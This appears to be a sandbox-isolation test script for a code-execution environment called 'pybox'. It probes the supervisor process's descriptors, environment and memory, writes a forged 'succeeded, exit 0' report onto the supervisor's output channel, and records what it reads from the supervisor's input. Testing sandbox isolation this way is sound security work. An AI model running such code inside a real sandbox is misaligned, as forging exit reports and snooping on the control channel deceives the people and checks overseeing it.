# A persistent sandbox, three runs of this program (argument `look`, `attack`,
# then `after`). PID 1 (pybox's bootstrap) talks to pybox over its stdin and
# stdout. `look` tries to open every descriptor of PID 1, its environment and its
# memory. `attack` writes a forged exit report ("succeeded, exit 0") to PID 1's
# stdout where it can, then reads PID 1's stdin for what pybox sends next (its
# acknowledgement, a later run's ping) and keeps what it read in the workspace;
# it ends with exit code 3. `after` prints what `attack` read.
import json
import os
import select
import sys
import time

FOUND = "bootstrap_link.json"


def opens(path):
    found = []
    for mode, flags in (("read", os.O_RDONLY), ("write", os.O_WRONLY)):
        try:
            os.close(os.open(path, flags | os.O_NONBLOCK))
            found.append(mode)
        except OSError:
            pass
    return found


def look():
    own = set(os.environ)
    report = {"descriptors": {}, "environ_names": None, "mem": opens("/proc/1/mem")}
    for number in range(64):
        for where in ("fd", "fdinfo"):
            modes = opens(f"/proc/1/{where}/{number}")
            if modes:
                report["descriptors"][f"{where}/{number}"] = modes
    try:
        with open("/proc/1/environ", "rb") as handle:
            names = [item.split(b"=", 1)[0].decode() for item in handle.read().split(b"\0")]
        # Only names the program does not have itself would be news to it.
        report["environ_names"] = sorted(n for n in names if n and n not in own)
    except OSError:
        pass
    print(json.dumps(report))


def attack():
    read, forged = b"", False
    try:
        out = os.open("/proc/1/fd/1", os.O_WRONLY)
        for kind, body in (
            (b"X", b'{"exit_code":0,"backstop":false,"stopped":false}'),
            (b"Z", b'{"files_sent":0,"files_skipped":[]}'),
        ):
            os.write(out, kind + len(body).to_bytes(4, "big") + body)
        forged = True
    except OSError:
        pass
    try:
        fd = os.open("/proc/1/fd/0", os.O_RDONLY | os.O_NONBLOCK)
        until = time.monotonic() + 4
        while time.monotonic() < until:
            if select.select([fd], [], [], 0.1)[0]:
                read += os.read(fd, 4096)
    except OSError:
        pass
    with open(FOUND, "w") as handle:
        json.dump({"forged": forged, "read_hex": read.hex()}, handle)
    sys.exit(3)


def after():
    try:
        with open(FOUND) as handle:
            print(json.dumps(json.load(handle)))
    except OSError:
        print(json.dumps({"missing": True}))


{"look": look, "attack": attack, "after": after}[sys.argv[1]]()
